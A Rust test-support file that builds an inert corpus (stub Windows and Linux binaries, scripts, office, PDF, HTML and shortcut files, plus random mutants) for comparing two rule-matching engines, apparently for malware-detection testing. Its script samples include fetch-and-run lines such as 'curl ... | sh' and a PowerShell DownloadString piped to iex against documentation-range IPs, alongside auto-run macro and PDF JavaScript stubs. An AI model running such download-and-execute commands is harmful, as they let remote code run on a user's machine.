//! A corpus of the kinds that rules are written for, made here and inert: programs that no system starts, scripts,
//! documents, archives, dumps; and mutants of all of them, which is where two engines come apart.

use std::io::Write as _;

/// A file of the corpus.
pub(super) struct Sample {
    /// What it is, for a failure's text.
    pub(super) name: String,
    pub(super) content: Vec<u8>,
}

/// Mutants made of each file.
const MUTANTS: usize = 12;

/// Draws numbers that are the same in each run.
pub(super) struct Draw(u64);

impl Draw {
    pub(super) fn below(&mut self, end: usize) -> usize {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(self.0 >> 33).unwrap() % end
    }

    fn byte(&mut self) -> u8 {
        u8::try_from(self.below(256)).unwrap()
    }
}

/// All files and their mutants.
pub(super) fn corpus() -> Vec<Sample> {
    let mut draw = Draw(20_261_125);
    let mut samples: Vec<(String, Vec<u8>)> = Vec::new();
    for (index, bits) in [32_u16, 64, 32, 64].into_iter().enumerate() {
        samples.push((format!("pe{bits}-{index}"), pe(bits, index, &mut draw)));
        samples.push((format!("elf{bits}-{index}"), elf(bits, index, &mut draw)));
    }
    for (index, script) in SCRIPTS.iter().enumerate() {
        samples.push((format!("script-{index}"), script.as_bytes().to_vec()));
        samples.push((format!("script-wide-{index}"), wide(script)));
        samples.push((format!("script-upper-{index}"), script.to_uppercase().into_bytes()));
    }
    for (index, document) in documents(&mut draw).into_iter().enumerate() {
        samples.push((format!("document-{index}"), document));
    }
    let whole: Vec<_> = samples.clone();
    for (name, content) in &whole {
        for number in 0..MUTANTS {
            samples.push((format!("{name}-mutant-{number}"), mutant(content, &whole, &mut draw)));
        }
    }
    // Known to divide the engines: the count of data directories is no number of theirs.
    let mut program = pe(64, 1, &mut draw);
    put(&mut program, 0x98 + 0x6c, &0x0400_0000_u32.to_le_bytes());
    samples.push(("pe64-directories".to_owned(), program));
    samples.into_iter().map(|(name, content)| Sample { name, content }).collect()
}

const SCRIPTS: [&str; 6] = [
    "#!/bin/sh\nset -e\ncurl -s http://192.0.2.7/alpha123 | sh\nfor i in 1 2 3; do echo abababab; done\n",
    "$a = New-Object Net.WebClient; $a.DownloadString('http://192.0.2.9/b.ps1') | iex # alpha beta\n",
    "<?php\nfunction alpha($x) { return base64_decode($x); }\necho alpha('c2VjcmV0IHRleHQ=');\n?>",
    "import os, sys\n\ndef main():\n    print('alpha42 beta', sys.argv)\n\nmain()\n",
    "@echo off\r\nset x=al%random%pha\r\nfor /f %%i in ('dir /b') do echo %%i xxyy abababab\r\n",
    "Sub AutoOpen()\r\n  Dim s As String: s = \"a longer secret text\"\r\n  MsgBox s & \"Alpha\"\r\nEnd Sub\r\n",
];

fn wide(text: &str) -> Vec<u8> {
    text.bytes().flat_map(|byte| [byte, 0]).collect()
}

fn put(bytes: &mut [u8], at: usize, value: &[u8]) {
    bytes[at..at + value.len()].copy_from_slice(value);
}

/// A program of Windows in form: headers, three sections, an import table, a version; no instruction in it.
fn pe(bits: u16, index: usize, draw: &mut Draw) -> Vec<u8> {
    let mut file = vec![0_u8; 0x400 + 3 * 0x200];
    put(&mut file, 0, b"MZ");
    put(&mut file, 0x3c, &0x80_u32.to_le_bytes());
    put(&mut file, 0x40, b"!This program cannot be run in DOS mode.\r\r\n$");
    put(&mut file, 0x80, b"PE\0\0");
    let machine: u16 = if bits == 64 { 0x8664 } else { 0x14c };
    put(&mut file, 0x84, &machine.to_le_bytes());
    put(&mut file, 0x86, &3_u16.to_le_bytes());
    put(&mut file, 0x88, &(1_600_000_000 + u32::try_from(index).unwrap()).to_le_bytes());
    let optional: u16 = if bits == 64 { 0xf0 } else { 0xe0 };
    put(&mut file, 0x94, &optional.to_le_bytes());
    put(&mut file, 0x96, &(if index % 2 == 0 { 0x2102_u16 } else { 0x0102 }).to_le_bytes());
    put(&mut file, 0x98, &(if bits == 64 { 0x20b_u16 } else { 0x10b }).to_le_bytes());
    put(&mut file, 0xa8, &0x1000_u32.to_le_bytes());
    put(&mut file, 0xb8, &0x1000_u32.to_le_bytes());
    put(&mut file, 0xbc, &0x200_u32.to_le_bytes());
    put(&mut file, 0xd0, &0x5000_u32.to_le_bytes());
    put(&mut file, 0xd4, &0x400_u32.to_le_bytes());
    put(&mut file, 0xdc, &2_u16.to_le_bytes());
    let directories = if bits == 64 { 0x98 + 0x6c } else { 0x98 + 0x5c };
    put(&mut file, directories, &16_u32.to_le_bytes());
    // The import directory stands at the beginning of the second section.
    put(&mut file, directories + 4 + 8, &0x2000_u32.to_le_bytes());
    put(&mut file, directories + 4 + 12, &0x28_u32.to_le_bytes());
    let table = 0x98 + usize::from(optional);
    for (number, name) in [&b".text"[..], b".rdata", b"UPX0"].into_iter().enumerate() {
        let at = table + number * 40;
        let place = u32::try_from(number).unwrap();
        put(&mut file, at, name);
        put(&mut file, at + 8, &0x200_u32.to_le_bytes());
        put(&mut file, at + 12, &(0x1000 * (place + 1)).to_le_bytes());
        put(&mut file, at + 16, &0x200_u32.to_le_bytes());
        put(&mut file, at + 20, &(0x400 + 0x200 * place).to_le_bytes());
        put(&mut file, at + 36, &(0x6000_0020_u32 + 0x8000_0000 * (place % 2)).to_le_bytes());
    }
    let data = 0x600;
    put(&mut file, data, &0x2040_u32.to_le_bytes());
    put(&mut file, data + 12, &0x2080_u32.to_le_bytes());
    put(&mut file, data + 16, &0x2060_u32.to_le_bytes());
    let thunk = if bits == 64 { 8 } else { 4 };
    for (number, name) in [0x2090_u32, 0x20a0].into_iter().enumerate() {
        for list in [0x40, 0x60] {
            put(&mut file, data + list + number * thunk, &name.to_le_bytes());
        }
    }
    put(&mut file, data + 0x80, b"KERNEL32.dll\0");
    put(&mut file, data + 0x92, b"CreateFileA\0");
    put(&mut file, data + 0xa2, b"WriteProcessMemory\0");
    let packed: Vec<u8> = (0..0x1c0).map(|_| draw.byte()).collect();
    put(&mut file, 0x800, &packed);
    put(&mut file, 0x440, &wide("Alpha "));
    put(&mut file, 0x480, b"secret text".map(|byte| byte ^ u8::try_from(0x21 + index).unwrap()).as_slice());
    file
}

/// A program of Linux in form: a header, two segments, sections with their names.
fn elf(bits: u16, index: usize, draw: &mut Draw) -> Vec<u8> {
    let wide_file = bits == 64;
    let (header, program, section) = if wide_file { (64_u16, 56_u16, 64_u16) } else { (52, 32, 40) };
    let mut file = vec![0_u8; 0x400];
    put(&mut file, 0, b"\x7fELF");
    file[4] = if wide_file { 2 } else { 1 };
    (file[5], file[6]) = (1, 1);
    put(&mut file, 16, &(if index % 2 == 0 { 2_u16 } else { 3 }).to_le_bytes());
    put(&mut file, 18, &(if wide_file { 62_u16 } else { 3 }).to_le_bytes());
    put(&mut file, 20, &1_u32.to_le_bytes());
    let mut number = |at: usize, value: u64| {
        let bytes = value.to_le_bytes();
        put(&mut file, at, if wide_file { &bytes } else { &bytes[..4] });
    };
    let word = if wide_file { 8 } else { 4 };
    number(24, 0x40_0100);
    number(24 + word, u64::from(header));
    number(24 + 2 * word, 0x200);
    let tail = 24 + 3 * word + 4;
    for (place, value) in [header, program, 2, section, 3, 2].into_iter().enumerate() {
        put(&mut file, tail + 2 * place, &value.to_le_bytes());
    }
    for place in 0..2_usize {
        let at = usize::from(header) + place * usize::from(program);
        put(&mut file, at, &1_u32.to_le_bytes());
        let (offset, address, size) = if wide_file { (8, 16, 32) } else { (4, 8, 16) };
        put(&mut file, at + offset, &(0x100_u32 * u32::try_from(place).unwrap()).to_le_bytes());
        put(&mut file, at + address, &0x40_0000_u32.to_le_bytes());
        put(&mut file, at + size, &0x200_u32.to_le_bytes());
    }
    for (place, (name, kind, offset)) in
        [(0_u32, 0_u32, 0_u32), (1, 1, 0x100), (7, 3, 0x300)].into_iter().enumerate()
    {
        let at = 0x200 + place * usize::from(section);
        put(&mut file, at, &name.to_le_bytes());
        put(&mut file, at + 4, &kind.to_le_bytes());
        let (where_at, size) = if wide_file { (24, 32) } else { (16, 20) };
        put(&mut file, at + where_at, &offset.to_le_bytes());
        put(&mut file, at + size, &0x20_u32.to_le_bytes());
    }
    put(&mut file, 0x300, b"\0.text\0.shstrtab\0");
    let body: Vec<u8> = (0..0x40).map(|_| draw.byte()).collect();
    put(&mut file, 0x340, &body);
    put(&mut file, 0x3a0, b"alpha77 ababab /bin/sh");
    file
}

/// Documents of the kinds that come by mail, and what holds them.
fn documents(draw: &mut Draw) -> Vec<Vec<u8>> {
    let noise: Vec<u8> = (0..6000).map(|_| draw.byte()).collect();
    let mut ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec();
    ole.extend([0; 504]);
    ole.extend(wide("VBA_PROJECT Alpha "));
    ole.extend(&noise[..2000]);
    let mut zip = ::zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, content) in
        [("word/document.xml", &b"<w:t>alpha beta</w:t>"[..]), ("word/vbaProject.bin", &ole[..600])]
    {
        zip.start_file(name, ::zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(content).unwrap();
    }
    let pdf = b"%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n2 0 obj << /S /JavaScript /JS (alpha99) >> endobj\ntrailer\n%%EOF";
    let mut link = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
    link.extend(wide("C:\\Windows\\System32\\cmd.exe /c echo alpha"));
    vec![
        ole,
        zip.finish().unwrap().into_inner(),
        pdf.to_vec(),
        b"{\\rtf1\\ansi {\\object\\objdata 616c706861} alpha ababababab }".to_vec(),
        b"<html><script>eval(unescape('%61%6c%70%68%61'))</script>alpha12.</html>".to_vec(),
        b"From: a@example.org\r\nSubject: alpha\r\n\r\nYSBsb25nZXIgc2VjcmV0IHRleHQ=\r\n".to_vec(),
        link,
        wide("xxxxYSBsb25nZXIgc2VjcmV0IHRleHQ=xx"),
        b"alpha beta gamma, alpha".to_vec(),
        noise,
        Vec::new(),
        b"a".to_vec(),
        vec![0; 5000],
        b"ab".repeat(3000),
        b"MDMP alpha x123y".to_vec(),
    ]
}

/// One file changed as damage, editing and packing change it.
fn mutant(content: &[u8], others: &[(String, Vec<u8>)], draw: &mut Draw) -> Vec<u8> {
    let mut mutant = content.to_vec();
    for _ in 0..=draw.below(4) {
        let length = mutant.len().max(1);
        let place = draw.below(length).min(mutant.len());
        match draw.below(7) {
            0 if !mutant.is_empty() => mutant[place.min(length - 1)] = draw.byte(),
            1 => mutant.truncate(place),
            2 => mutant.insert(place, draw.byte()),
            3 if !mutant.is_empty() => mutant.rotate_left(place % length),
            4 => {
                let other = &others[draw.below(others.len())].1;
                let from = draw.below(other.len().max(1)).min(other.len());
                let part: Vec<u8> = other[from..].iter().copied().take(200).collect();
                mutant.splice(place..place, part);
            }
            5 => {
                let end = place.saturating_add(draw.below(64)).min(mutant.len());
                let key = draw.byte();
                mutant[place..end].iter_mut().for_each(|byte| *byte ^= key);
            }
            _ => {
                let end = place.saturating_add(16).min(mutant.len());
                let part = mutant[place..end].to_vec();
                mutant.extend(part);
            }
        }
    }
    mutant
}
